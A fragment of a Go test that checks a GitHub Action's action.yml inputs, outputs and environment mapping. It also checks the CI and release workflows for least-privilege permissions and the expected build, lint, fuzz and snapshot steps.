	if got := strings.Join(actionKeys(actionGet(action, "inputs")), " "); got != "config offline prometheus loki fail-on args version" {
		t.Errorf("action.yml inputs: %s", got)
	}
	if got := actionGet(action, "inputs", "config", "default"); got == nil || got.Value != "budgets.yaml" {
		t.Errorf("action.yml: config's default %v, want budgets.yaml", got)
	}
	if got := strings.Join(actionKeys(actionGet(action, "outputs")), " "); got != "status exit-code report" {
		t.Errorf("action.yml outputs: %s", got)
	}
	// Every input reaches the script, as INPUT_<NAME> (version through
	// the resolve step).
	var env []string
	actionWalk(action, func(k, v *yaml.Node) {
		if k.Value == "env" {
			for i := 0; i+1 < len(v.Content); i += 2 {
				env = append(env, v.Content[i].Value+"="+v.Content[i+1].Value)
			}
		}
	})
	for _, in := range actionKeys(actionGet(action, "inputs")) {
		want := "INPUT_" + strings.ToUpper(strings.ReplaceAll(in, "-", "_")) + "=${{ inputs." + in + " }}"
		if !slices.Contains(env, want) {
			t.Errorf("action.yml: no env %s (env: %v)", want, env)
		}
	}

	for f, want := range map[string]string{".github/workflows/ci.yml": "read", ".github/workflows/release.yml": "read"} {
		if got := actionGet(docs[f], "permissions", "contents"); got == nil || got.Value != want || len(actionGet(docs[f], "permissions").Content) != 2 {
			t.Errorf("%s: top-level permissions must be contents: %s only", f, want)
		}
	}
	release := docs[".github/workflows/release.yml"]
	if got := actionGet(release, "on", "push", "tags"); got == nil || len(got.Content) != 1 || got.Content[0].Value != "v*" {
		t.Errorf("release.yml: on.push.tags must be [v*]")
	}
	for _, job := range actionKeys(actionGet(release, "jobs")) {
		p := actionGet(release, "jobs", job, "permissions", "contents")
		if job == "release" && (p == nil || p.Value != "write") {
			t.Errorf("release.yml: job release needs contents: write")
		}
		if job != "release" && p != nil {
			t.Errorf("release.yml: job %s asks for contents: %s", job, p.Value)
		}
	}
	ci := docs[".github/workflows/ci.yml"]
	for _, job := range actionKeys(actionGet(ci, "jobs")) {
		if p := actionGet(ci, "jobs", job, "permissions"); p != nil {
			t.Errorf("ci.yml: job %s changes the permissions", job)
		}
	}
	// What CI must run: the tests, lint, fuzz, the snapshots, the Action
	// and the archives.
	var runs []string
	actionWalk(ci, func(k, v *yaml.Node) {
		if k.Value == "run" || k.Value == "uses" {
			runs = append(runs, v.Value)
		}
	})
	all := strings.Join(runs, "\n")
	for _, want := range []string{"make test", "make lint", "make fuzz FUZZTIME=10s", "sudo apt-get install -y --no-install-recommends prometheus",
		"--offline testdata/snapshots/healthy", "--offline testdata/snapshots/degraded", "--report junit=", "--report json=", "make dist-check", "./"} {
		if !slices.Contains(runs, want) && !strings.Contains(all, want) {
			t.Errorf("ci.yml runs no %q", want)
		}
	}
}
